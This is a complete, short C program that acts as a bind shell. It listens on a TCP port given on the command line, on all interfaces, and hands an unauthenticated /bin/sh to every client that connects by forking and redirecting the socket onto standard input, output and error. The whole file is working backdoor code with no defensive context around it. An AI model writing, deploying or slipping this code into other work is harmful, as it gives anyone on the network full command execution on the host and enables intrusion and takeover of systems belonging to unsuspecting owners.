/* Serves a shell on a port of TCP: each connection is the standard input and output of one. */
#include <netinet/in.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int count, char **words)
{
	struct sockaddr_in at = { .sin_family = AF_INET };
	int listener = socket(AF_INET, SOCK_STREAM, 0), one = 1;
	if (count != 2)
		return 2;
	at.sin_port = htons((in_port_t)atoi(words[1]));
	/* Nothing waits for the shells. */
	signal(SIGCHLD, SIG_IGN);
	setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(listener, (struct sockaddr *)&at, sizeof at) || listen(listener, 64))
		return 1;
	for (;;) {
		int client = accept(listener, NULL, NULL);
		if (client < 0)
			continue;
		if (!fork()) {
			signal(SIGCHLD, SIG_DFL);
			close(listener);
			dup2(client, 0);
			dup2(client, 1);
			dup2(client, 2);
			close(client);
			execl("/bin/sh", "sh", (char *)NULL);
			_exit(1);
		}
		close(client);
	}
}
